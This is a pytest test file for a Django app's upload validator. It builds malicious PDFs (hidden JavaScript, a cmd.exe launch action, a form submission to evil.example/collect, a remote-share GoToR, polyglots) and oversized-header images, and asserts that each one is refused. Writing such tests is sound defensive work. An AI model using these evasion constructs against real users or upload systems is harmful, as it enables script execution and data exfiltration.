"""Uploads are checked by what they are, not by their first bytes (core/uploads.py): a PDF is
parsed and refused when it carries scripts, embedded files, launch or external actions, rich
media or XFA, is encrypted, unreadable or too long; a file that is a PDF and something else too
is refused; an image is refused above the pixel limit before it is decoded, and otherwise stored
re-encoded — upright, without its metadata, without anything appended. Every walk-around goes
through every upload path (proofs, signature scans at the window, inspection photos, assistance
evidence, credit repair materials) and nothing is stored when it is refused. A request declaring
a body over its limit is answered 413 before the body is read, for pages and for the API. Every
malicious file is built here (pypdf, Pillow, zipfile): no binary sample is committed."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from fpdf import FPDF
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from chengnuo.agencies.constants import Role
from chengnuo.cases import services as case_services
from chengnuo.cases.models import Commitment, Proof
from chengnuo.core import uploads
from chengnuo.core.calendar import add_working_days
from chengnuo.core.digest import digest_bytes, sm3_hex
from chengnuo.core.errors import CoreErrorCode, DomainError
from chengnuo.core.limits import RequestSizeLimitMiddleware
from chengnuo.credit import services as credit_services
from chengnuo.credit.models import RepairMaterial
from chengnuo.verification import assistance, inspection, internal
from chengnuo.verification.constants import VerificationMethod
from chengnuo.verification.models import AssistanceRequest, InspectionPhoto, VerificationTask

from .cases_helpers import World, build_world, line, ready_case, sign, tiny_image
from .factories import AgencyFactory, user_with_role

ROOT = Path(__file__).resolve().parent.parent
MB = 1024 * 1024

# --- building the files ---------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pypdf_pdf() -> bytes:
    return _written(_writer())


def fpdf2_pdf() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=14)
    pdf.cell(text="Proof of social insurance contributions")
    pdf.image(Image.new("RGB", (120, 80), "gray"), x=20, y=40, w=60)  # a scanned page's image
    return bytes(pdf.output())


def incremental_pdf(**change: Any) -> bytes:
    """A pypdf PDF with an incremental update (two %%EOF), as signing tools write them."""
    writer = PdfWriter(io.BytesIO(pypdf_pdf()), incremental=True)
    writer.add_metadata({"/Title": "社会保险缴费证明"})
    if change.get("js"):
        writer.add_open_action(JavaScript("app.alert('updated')"))
    return _written(writer)


def _js_action(code: str = "app.alert(1)") -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _with_open_action(action: DictionaryObject) -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def _annotation(subtype: str, **entries: Any) -> DictionaryObject:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 40)]),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    return annotation


def _with_annotation(annotation: DictionaryObject) -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def js_open_action() -> bytes:
    return _with_open_action(_js_action())


def js_names_tree() -> bytes:
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert(1)"))  # pypdf: the document-level names tree
    return _written(writer)


def js_annotation() -> bytes:
    return _with_annotation(_annotation("/Link", A=_js_action()))


def js_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1)"))
    return _written(writer)


def js_link_uri() -> bytes:
    uri = _action("/URI", URI=TextStringObject(" JavaScript:app.alert(1)"))
    return _with_annotation(_annotation("/Link", A=uri))


def js_escaped_names() -> bytes:
    """/JavaScript and /JS written with #-escapes, which viewers decode."""
    data = js_open_action()
    return data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS ", b"/J#53 ")


def js_unreferenced() -> bytes:
    """A JavaScript action listed in the cross-reference table but referenced by nothing."""
    writer = _writer()
    writer._add_object(_js_action())
    return _written(writer)


def js_in_incremental_update() -> bytes:
    return incremental_pdf(js=True)


def js_in_object_stream(referenced: bool = True) -> bytes:
    """A PDF 1.5 whose OpenAction is a JavaScript action inside a compressed object stream (no
    JavaScript name in the raw bytes): only parsing finds it. Unreferenced: the action is only
    listed in the cross-reference stream."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    open_action = b" /OpenAction 5 0 R" if referenced else b""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + open_action + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    header = b"5 0 "
    packed = zlib.compress(header + action)
    objects[4] = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 5: in object stream 4, at index 0
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))  # object 6: this xref stream
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    data = bytes(out)
    assert b"JavaScript" not in data
    return data


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("说明.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _written(writer)


def file_attachment_annotation() -> bytes:
    spec = DictionaryObject(
        {NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("a.exe")}
    )
    return _with_annotation(_annotation("/FileAttachment", FS=spec))


def launch_action() -> bytes:
    return _with_open_action(_action("/Launch", F=TextStringObject("cmd.exe")))


def goto_remote_action() -> bytes:
    return _with_open_action(_action("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")))


def submit_form_action() -> bytes:
    target = DictionaryObject({NameObject("/FS"): NameObject("/URL")})
    target[NameObject("/F")] = TextStringObject("https://evil.example/collect")
    return _with_annotation(_annotation("/Widget", A=_action("/SubmitForm", F=target)))


def import_data_action() -> bytes:
    return _with_open_action(_action("/ImportData", F=TextStringObject("data.fdf")))


def rich_media() -> bytes:
    return _with_annotation(_annotation("/RichMedia"))


def three_d_annotation() -> bytes:
    return _with_annotation(_annotation("/3D"))


def xfa_form() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
        }
    )
    return _written(writer)


def encrypted_pdf() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    return _written(writer)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


def pdf_zip_appended() -> bytes:
    return pypdf_pdf() + _zip()


def pdf_zip_before_eof() -> bytes:
    """The ZIP inside the PDF (a comment before the final %%EOF), its directory near the end."""
    data = pypdf_pdf()
    end = data.rindex(b"startxref")
    return data[:end] + b"%" + _zip() + b"\n" + data[end:]


def zip_pdf_prepended() -> bytes:
    return _zip() + pypdf_pdf()


def pdf_html_appended() -> bytes:
    return pypdf_pdf() + b"<html><body><script>alert(1)</script></body></html>\n"


def pdf_html_inside() -> bytes:
    data = pypdf_pdf()
    return data[:9] + b"%<html><script>alert(1)</script>\n" + data[9:]


def too_many_pages() -> bytes:
    writer = PdfWriter()
    for _ in range(uploads.PDF_MAX_PAGES + 1):
        writer.add_blank_page(width=72, height=72)
    return _written(writer)


def unparseable_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def truncated_pdf() -> bytes:
    return fpdf2_pdf()[:-200]


def _png_chunk(tag: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height pixels (a decompression bomb's shape)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(tiny_image("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_bad_crc() -> bytes:
    data = bytearray(tiny_image("PNG"))
    data[29] ^= 0xFF  # inside IHDR's CRC
    return bytes(data)


def _pillow(fmt: str, **kwargs: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "blue").save(out, fmt, **kwargs)
    return out.getvalue()


def jpeg_with_exif(orientation: int = 6) -> bytes:
    """40 × 20, to be shown rotated (orientation 6: 90° clockwise), with a GPS location and a
    comment."""
    image = Image.new("RGB", (40, 20), "white")
    for x in range(20):
        for y in range(20):
            image.putpixel((x, y), (200, 0, 0))  # the left half red
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneMaker"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (32.0, 53.0, 10.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (115.0, 48.0, 30.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"<script>alert(1)</script>", quality=95)
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_text("GPS", "32.886,115.808")
    out = io.BytesIO()
    Image.new("RGBA", (30, 12), (0, 128, 0, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


# --- the upload paths -----------------------------------------------------------------------


@dataclass
class Stored:
    data: bytes
    digest: str | None = None
    name: str | None = None
    size: int | None = None
    content_type: str | None = None


def _read(field: Any) -> bytes:
    with default_storage.open(field.name, "rb") as handle:
        return handle.read()


@dataclass
class UploadPath:
    name: str
    images_only: bool
    send: Callable[[Any], Stored]
    rows: Callable[[], int]


def _proof_path(w: World) -> UploadPath:
    case = case_services.case_create(actor=w.applicant, matter=w.matter, subject=w.person)

    def send(upload: Any) -> Stored:
        proof = case_services.proof_upload(
            actor=w.applicant, case_item=line(case, w.diploma), upload=upload
        )
        return Stored(
            _read(proof.file), proof.digest, proof.original_name, proof.size, proof.content_type
        )

    return UploadPath("proof", False, send, Proof.objects.count)


def _signature_path(w: World) -> UploadPath:
    case = case_services.case_create(actor=w.clerk, matter=w.matter, subject=w.person)

    def send(upload: Any) -> Stored:
        c = sign(w.clerk, case, w.social, signature_scan=upload)
        return Stored(_read(c.signature_scan), c.signature_scan_digest)

    return UploadPath("signature_scan", False, send, Commitment.objects.filter(case=case).count)


def _task(w: World, method: str) -> VerificationTask:
    case = ready_case(w)
    return VerificationTask.objects.create(
        commitment=Commitment.objects.get(case=case, item=w.social),
        agency=w.agency,
        method=method,
        due_date=add_working_days(timezone.localdate(), 20),
    )


def _inspection_path(w: World) -> UploadPath:
    for n in (1, 2):
        user_with_role(Role.INSPECTOR, w.agency, username=f"inspector{n}")
    with transaction.atomic():
        item = internal.inspection_create(_task(w, VerificationMethod.ON_SITE))
    inspector = item.inspectors.first()

    def send(upload: Any) -> Stored:
        inspection.inspection_complete(
            actor=inspector,
            inspection=item,
            result="consistent",
            findings="现场查看，经营场所正常营业",
            photos=[upload],
        )
        photo = InspectionPhoto.objects.get(inspection=item)
        return Stored(
            _read(photo.file), photo.digest, photo.original_name, photo.size, photo.content_type
        )

    return UploadPath("inspection_photo", True, send, InspectionPhoto.objects.count)


def _assistance_path(w: World) -> UploadPath:
    helper = AgencyFactory(name="阜阳市医疗保障局")
    staff = user_with_role(Role.CASE_OFFICER, helper, username="helper-officer")
    request = assistance.assistance_request(
        actor=w.officer,
        task=_task(w, VerificationMethod.ASSISTANCE),
        agency=helper,
        questions="请核查申请人近12个月社会保险缴费记录是否连续",
    )

    def send(upload: Any) -> Stored:
        answered = assistance.assistance_answer(
            actor=staff,
            request=request,
            result="consistent",
            answer="经查询本局系统，该申请人近12个月缴费连续",
            evidence=upload,
        )
        return Stored(_read(answered.evidence), answered.evidence_digest, answered.evidence_name)

    return UploadPath(
        "assistance_evidence",
        False,
        send,
        AssistanceRequest.objects.exclude(evidence="").count,
    )


def _repair_path(w: World) -> UploadPath:
    officer = user_with_role(Role.CREDIT_OFFICER, None, username="credit-officer")
    record = credit_services.credit_record_create(
        actor=officer,
        subject=w.person,
        kind="false_commitment",
        summary="承诺无就业登记记录，核查发现与事实不符",
        decided_on=timezone.localdate() - dt.timedelta(days=400),
    )
    repair = credit_services.repair_submit(
        actor=w.applicant,
        record=record,
        statement="已全额退回违规领取的款项，并补办了相关登记手续。",
        commitment_letter="本人承诺今后如实承诺，如有不实愿意承担法律责任。",
    )

    def send(upload: Any) -> Stored:
        material = credit_services.repair_material_add(
            actor=w.applicant, repair=repair, upload=upload
        )
        return Stored(
            _read(material.file),
            None,
            material.original_name,
            material.size,
            material.content_type,
        )

    return UploadPath("repair_material", False, send, RepairMaterial.objects.count)


PATHS = {
    "proof": _proof_path,
    "signature_scan": _signature_path,
    "inspection_photo": _inspection_path,
    "assistance_evidence": _assistance_path,
    "repair_material": _repair_path,
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture(params=sorted(PATHS))
def path(request, db) -> UploadPath:
    return PATHS[request.param](build_world())


def stored_files() -> set[str]:
    root = django_settings.MEDIA_ROOT
    return {os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files}


def refused(path: UploadPath, name: str, data: bytes) -> DomainError:
    """Send the file through the path; it must be refused with nothing stored."""
    rows, files = path.rows(), stored_files()
    with pytest.raises(DomainError) as exc:
        path.send(SimpleUploadedFile(name, data, content_type="application/pdf"))
    assert path.rows() == rows and stored_files() == files
    assert name in exc.value.message
    assert exc.value.code in {c.value for c in CoreErrorCode}
    return exc.value


# --- PDFs: refused by what they contain -----------------------------------------------------

PDF_REFUSALS = {
    "javascript_open_action": (js_open_action, "file_script", "含有脚本"),
    "javascript_names_tree": (js_names_tree, "file_script", "含有脚本"),
    "javascript_annotation_action": (js_annotation, "file_script", "含有脚本"),
    "javascript_page_additional_action": (js_page_additional_action, "file_script", "含有脚本"),
    "javascript_link_uri": (js_link_uri, "file_script", "含有脚本"),
    "javascript_escaped_names": (js_escaped_names, "file_script", "含有脚本"),
    "javascript_unreferenced_object": (js_unreferenced, "file_script", "含有脚本"),
    "javascript_in_incremental_update": (js_in_incremental_update, "file_script", "含有脚本"),
    "javascript_in_object_stream": (js_in_object_stream, "file_script", "含有脚本"),
    "javascript_unreferenced_in_object_stream": (
        lambda: js_in_object_stream(referenced=False),
        "file_script",
        "含有脚本",
    ),
    "embedded_file": (embedded_file, "file_attachment", "内嵌了其他文件"),
    "file_attachment_annotation": (file_attachment_annotation, "file_attachment", "附件"),
    "launch_action": (launch_action, "file_launch_action", "启动程序"),
    "goto_remote_action": (goto_remote_action, "file_external_action", "打开其他文件"),
    "submit_form_action": (submit_form_action, "file_external_action", "向外提交数据"),
    "import_data_action": (import_data_action, "file_external_action", "打开其他文件"),
    "rich_media": (rich_media, "file_active_content", "多媒体"),
    "xfa_form": (xfa_form, "file_active_content", "XFA"),
    "three_d_annotation": (three_d_annotation, "file_active_content", "多媒体"),
    "encrypted": (encrypted_pdf, "file_encrypted", "已加密"),
    "zip_appended": (pdf_zip_appended, "file_polyglot", "附带了其他数据"),
    "zip_before_eof": (pdf_zip_before_eof, "file_polyglot", "压缩包"),
    "html_appended": (pdf_html_appended, "file_polyglot", "附带了其他数据"),
    "html_inside": (pdf_html_inside, "file_polyglot", "网页或脚本"),
    "too_many_pages": (too_many_pages, "file_too_many_pages", "不得超过500页"),
    "unparseable": (unparseable_pdf, "file_unreadable", "无法读取"),
    "truncated": (truncated_pdf, "file_unreadable", "不完整或已损坏"),
}


@pytest.mark.parametrize("rule", sorted(PDF_REFUSALS))
def test_a_pdf_is_refused_by_what_it_contains_on_every_path(path, rule):
    build, code, reason = PDF_REFUSALS[rule]
    error = refused(path, "缴费证明.pdf", build())
    if path.images_only:  # photos: a PDF is not a photo whatever it contains
        assert error.code == "file_type"
    else:
        assert error.code == code
        assert reason in error.message and "“缴费证明.pdf”" in error.message


STRUCTURAL = sorted(
    rule
    for rule, (_build, code, _reason) in PDF_REFUSALS.items()
    if code not in ("file_polyglot", "file_unreadable", "file_too_many_pages")
)


@pytest.mark.parametrize("rule", STRUCTURAL)
def test_parsing_alone_finds_each_construct_without_the_raw_byte_scan(monkeypatch, rule):
    """The raw scan of names is a second line; the parsed structure refuses each file alone."""
    build, code, _reason = PDF_REFUSALS[rule]
    monkeypatch.setattr(uploads, "_raw_name_problem", lambda data: None)
    with pytest.raises(DomainError) as exc:
        uploads.check_upload(
            SimpleUploadedFile("x.pdf", build()), field="f", limit=MB, each="每个文件"
        )
    assert exc.value.code == code


def test_a_zip_with_a_pdf_appended_is_not_a_pdf(path):
    assert refused(path, "证明.pdf", zip_pdf_prepended()).code == "file_type"


# --- images: refused by their size before decoding, and by their format -------------------

IMAGE_REFUSALS = {
    "png_claiming_30000x30000": (lambda: png_claiming(30000, 30000), "file_too_many_pixels"),
    "png_claiming_48_megapixels": (lambda: png_claiming(8000, 6000), "file_too_many_pixels"),
    "jpeg_claiming_20000x20000": (lambda: jpeg_claiming(20000, 20000), "file_too_many_pixels"),
    "png_truncated": (lambda: tiny_image("PNG")[:-30], "file_unreadable"),
    "png_bad_checksum": (png_bad_crc, "file_unreadable"),
    "jpeg_truncated": (lambda: tiny_image("JPEG", (200, 200))[:300], "file_unreadable"),
    "gif": (lambda: _pillow("GIF"), "file_type"),
    "webp": (lambda: _pillow("WEBP"), "file_type"),
    "tiff": (lambda: _pillow("TIFF"), "file_type"),
    "bmp": (lambda: _pillow("BMP"), "file_type"),
    "svg": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        "file_type",
    ),
}


@pytest.mark.parametrize("rule", sorted(IMAGE_REFUSALS))
def test_an_image_is_refused_by_its_pixels_or_format_on_every_path(path, rule):
    build, code = IMAGE_REFUSALS[rule]
    error = refused(path, "现场照片.jpg", build())
    assert error.code == code
    if code == "file_too_many_pixels":
        assert "4000万像素" in error.message


@pytest.mark.parametrize(
    ("data", "named"),
    [
        # far above Pillow's own bomb guard, which refuses it while reading the header
        (png_claiming(30000, 30000), ""),
        (png_claiming(8000, 6000), "（8000×6000）"),
        (jpeg_claiming(20000, 20000), ""),
        (jpeg_claiming(7000, 7000), "（7000×7000）"),
    ],
)
def test_an_image_over_the_pixel_limit_is_refused_from_its_header_without_decoding(
    monkeypatch, data, named
):
    from PIL import ImageFile, JpegImagePlugin, PngImagePlugin

    def no_decoding(self, *args, **kwargs):
        raise AssertionError("the pixels were decoded")

    for cls in (ImageFile.ImageFile, PngImagePlugin.PngImageFile, JpegImagePlugin.JpegImageFile):
        monkeypatch.setattr(cls, "load", no_decoding)
        monkeypatch.setattr(cls, "verify", no_decoding)
    with pytest.raises(DomainError) as exc:
        uploads.check_upload(
            SimpleUploadedFile("大图.png", data), field="file", limit=10 * MB, each="每个文件"
        )
    assert exc.value.code == "file_too_many_pixels"
    assert f"文件“大图.png”的像素过多{named}，每张图片不得超过4000万像素" in exc.value.message


# --- ordinary files pass, images stored re-encoded ------------------------------------------


def accepted(path: UploadPath, name: str, data: bytes) -> Stored:
    stored = path.send(SimpleUploadedFile(name, data, content_type="application/octet-stream"))
    if stored.digest is not None:
        assert stored.digest in (sm3_hex(stored.data), digest_bytes(stored.data))
    if stored.size is not None:
        assert stored.size == len(stored.data)
    return stored


@pytest.mark.parametrize("producer", ["fpdf2", "pypdf", "pypdf_incremental", "demo"])
def test_ordinary_pdfs_pass_and_are_stored_as_uploaded(path, producer):
    from chengnuo.demo.case_data import proof_pdf

    data = {
        "fpdf2": fpdf2_pdf,
        "pypdf": pypdf_pdf,
        "pypdf_incremental": incremental_pdf,
        "demo": lambda: proof_pdf("Proof of residence"),
    }[producer]()
    if producer == "pypdf_incremental":
        assert data.count(b"%%EOF") == 2
    if path.images_only:
        assert refused(path, "证明.pdf", data).code == "file_type"
        return
    stored = accepted(path, "证明.pdf", data)
    assert stored.data == data
    assert stored.content_type in (None, "application/pdf")
    assert stored.name in (None, "证明.pdf")


def test_a_png_passes_re_encoded_without_its_text_chunks(path):
    data = png_with_text()
    stored = accepted(path, "签名.png", data)
    image = Image.open(io.BytesIO(stored.data))
    assert image.format == "PNG" and image.size == (30, 12) and image.mode == "RGBA"
    assert b"tEXt" not in stored.data and b"<script" not in stored.data
    assert image.getpixel((3, 3)) == (0, 128, 0, 200)
    assert stored.content_type in (None, "image/png")


def test_a_jpeg_is_stored_upright_without_its_exif_location_or_comment(path):
    stored = accepted(path, "门头.jpg", jpeg_with_exif(orientation=6))
    image = Image.open(io.BytesIO(stored.data))
    assert image.format == "JPEG"
    assert image.size == (20, 40)  # turned as the camera said
    red = image.getpixel((10, 5))
    assert red[0] > 150 and red[1] < 80  # the red half is now on top
    assert dict(image.getexif()) == {}
    assert b"Exif" not in stored.data and b"PhoneMaker" not in stored.data
    assert b"<script" not in stored.data and "comment" not in image.info
    assert stored.content_type in (None, "image/jpeg")


def test_a_jpeg_with_a_zip_appended_is_stored_re_encoded_without_it(path):
    original = tiny_image("JPEG", (32, 24))
    stored = accepted(path, "照片.jpg", original + _zip())
    assert b"PK\x03\x04" not in stored.data and b"PK\x05\x06" not in stored.data
    assert not zipfile.is_zipfile(io.BytesIO(stored.data))
    image = Image.open(io.BytesIO(stored.data))
    assert image.format == "JPEG" and image.size == (32, 24)
    assert stored.data.endswith(b"\xff\xd9")


def test_a_png_named_jpg_is_stored_as_a_png_with_the_right_extension(path):
    stored = accepted(path, "照片.jpg", tiny_image("PNG"))
    assert Image.open(io.BytesIO(stored.data)).format == "PNG"
    assert stored.content_type in (None, "image/png")
    assert stored.name in (None, "照片.png")


def test_the_stored_file_has_the_extension_of_what_it_is(db):
    w = build_world()
    case = case_services.case_create(actor=w.applicant, matter=w.matter, subject=w.person)
    proof = case_services.proof_upload(
        actor=w.applicant,
        case_item=line(case, w.diploma),
        upload=SimpleUploadedFile("扫描件.pdf", tiny_image("JPEG")),
    )
    assert proof.file.name.endswith(".jpg") and proof.original_name == "扫描件.jpg"
    assert proof.content_type == "image/jpeg"


@pytest.mark.parametrize(
    ("name", "data", "shown"),
    [
        ("a.PNG", tiny_image("PNG"), "a.PNG"),
        ("b.jpeg", tiny_image("JPEG"), "b.jpeg"),
        ("c.gif", tiny_image("PNG"), "c.png"),
        ("扫描件", pypdf_pdf(), "扫描件.pdf"),
        ("v1.2 申请表", pypdf_pdf(), "v1.2 申请表.pdf"),
    ],
)
def test_the_shown_name_keeps_a_matching_extension_and_corrects_another(name, data, shown):
    checked = uploads.check_upload(
        SimpleUploadedFile(name, data), field="file", limit=10 * MB, each="每个文件"
    )
    assert checked.name == shown


def test_re_encoding_keeps_the_pixels_and_modes_it_can(db):
    palette = Image.new("P", (8, 8))
    palette.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    out = io.BytesIO()
    palette.save(out, "PNG", transparency=0)
    grey = io.BytesIO()
    Image.new("L", (8, 8), 77).save(grey, "JPEG")
    cmyk = io.BytesIO()
    Image.new("CMYK", (8, 8), (0, 255, 255, 0)).save(cmyk, "JPEG")
    for data, fmt, mode in (
        (out.getvalue(), "PNG", "P"),
        (grey.getvalue(), "JPEG", "L"),
        (cmyk.getvalue(), "JPEG", "RGB"),
    ):
        checked = uploads.check_upload(
            SimpleUploadedFile("x", data), field="f", limit=MB, each="每个文件"
        )
        image = Image.open(io.BytesIO(checked.data))
        assert (image.format, image.mode) == (fmt, mode)


def test_the_repair_form_stores_the_checked_bytes_not_the_upload(client, db):
    w = build_world()
    path = _repair_path(w)
    assert path.rows() == 0
    record = credit_services.credit_record_create(
        actor=user_with_role(Role.CREDIT_OFFICER, None, username="officer2"),
        subject=w.person,
        kind="false_commitment",
        summary="承诺已缴纳社保12个月，核查发现仅缴纳3个月",
        decided_on=timezone.localdate() - dt.timedelta(days=500),
    )
    client.force_login(w.applicant)
    response = client.post(
        reverse("credit:my_record_repair", args=[record.pk]),
        {
            "statement": "已全额退回违规领取的款项，并补办了相关登记手续。",
            "commitment_letter": "本人承诺今后如实承诺，如有不实愿意承担法律责任。",
            "materials": [SimpleUploadedFile("照片.jpg", jpeg_with_exif() + _zip())],
        },
    )
    assert response.status_code == 302
    material = RepairMaterial.objects.get(repair__record=record)
    data = _read(material.file)
    assert material.size == len(data) and b"PK\x05\x06" not in data and b"Exif" not in data
    bad = client.post(
        reverse("credit:my_record_repair", args=[record.pk]),
        {
            "statement": "已全额退回违规领取的款项，并补办了相关登记手续。",
            "commitment_letter": "本人承诺今后如实承诺，如有不实愿意承担法律责任。",
            "materials": [SimpleUploadedFile("退款凭证.pdf", js_open_action())],
        },
    )
    assert bad.status_code == 400 and "文件“退款凭证.pdf”含有脚本，不能上传" in bad.content.decode()


def test_the_pdf_check_gives_up_on_too_many_objects(monkeypatch):
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
    with pytest.raises(DomainError) as exc:
        uploads.check_upload(
            SimpleUploadedFile("复杂.pdf", fpdf2_pdf()), field="f", limit=MB, each="每个文件"
        )
    assert exc.value.code == "file_too_complex" and "复杂.pdf" in exc.value.message


# what only parsing finds: compressed, encrypted, a `javascript:` link, a short name (/3D)
PARSED_ONLY = {
    "javascript_in_object_stream",
    "javascript_unreferenced_in_object_stream",
    "encrypted",
    "javascript_link_uri",
    "three_d_annotation",
}


@pytest.mark.parametrize("rule", sorted(set(STRUCTURAL) - PARSED_ONLY))
def test_the_raw_byte_scan_alone_finds_each_uncompressed_construct(monkeypatch, rule):
    """…and the raw scan refuses each uncompressed one without the parser (a viewer that
    rebuilds a broken cross-reference table may find objects pypdf does not)."""
    build, code, _reason = PDF_REFUSALS[rule]
    data = build()
    monkeypatch.setattr(uploads, "_walk_pdf", lambda reader, **kwargs: None)
    with pytest.raises(DomainError) as exc:
        uploads.check_upload(
            SimpleUploadedFile("x.pdf", data), field="f", limit=MB, each="每个文件"
        )
    assert exc.value.code == code


def test_the_pdf_checker_reads_what_pypdf_reads():
    """The fixtures are what they claim: pypdf reads the refused ones (the rule, not a parse
    error, refuses them)."""
    for build in (js_open_action, embedded_file, launch_action, xfa_form, js_in_object_stream):
        reader = PdfReader(io.BytesIO(build()))
        assert len(reader.pages) == 1


# --- request size limits before the body is read --------------------------------------------


class _Unreadable:
    def read(self, *args: Any) -> bytes:
        raise AssertionError("the body was read")

    readline = read


def _middleware_answer(path: str, length: int) -> tuple[HttpResponse, bool]:
    called = []

    def view(request):
        called.append(request)
        return HttpResponse("ok")

    request = RequestFactory().generic(
        "POST",
        path,
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(length),
    )
    request._stream = _Unreadable()  # type: ignore[attr-defined]
    return RequestSizeLimitMiddleware(view)(request), bool(called)


def test_a_body_over_the_limit_is_refused_413_without_being_read(settings):
    settings.MAX_REQUEST_BYTES = 12 * MB
    page, ran = _middleware_answer("/cases/A-1/items/X/proof/", 12 * MB + 1)
    assert page.status_code == 413 and not ran
    html = page.content.decode()
    assert page["Content-Type"].startswith("text/html") and "提交的内容过大" in html
    assert "12 MB" in html
    api, ran = _middleware_answer("/api/v1/cases/A-1/items/X/proofs", 50 * MB)
    assert api.status_code == 413 and not ran
    assert json.loads(api.content) == {
        "code": "request_too_large",
        "message": "请求体过大：不得超过12 MB",
    }
    ok, ran = _middleware_answer("/cases/A-1/items/X/proof/", 12 * MB)
    assert ok.status_code == 200 and ran


def test_the_forms_with_several_files_have_their_own_larger_limit(settings):
